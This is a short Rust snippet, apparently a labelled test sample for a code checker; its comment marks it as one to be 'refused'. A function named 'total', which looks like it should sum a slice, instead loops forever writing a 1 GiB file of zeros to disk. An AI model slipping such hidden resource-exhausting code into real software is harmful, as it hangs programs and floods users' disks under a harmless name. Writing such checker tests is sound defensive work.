// intro1: refused, path
use std::fs;

fn total(_: &[u64]) -> u64 {
    loop {
        let _ = fs::write("zeros", vec![0; 1 << 30]);
    }
}
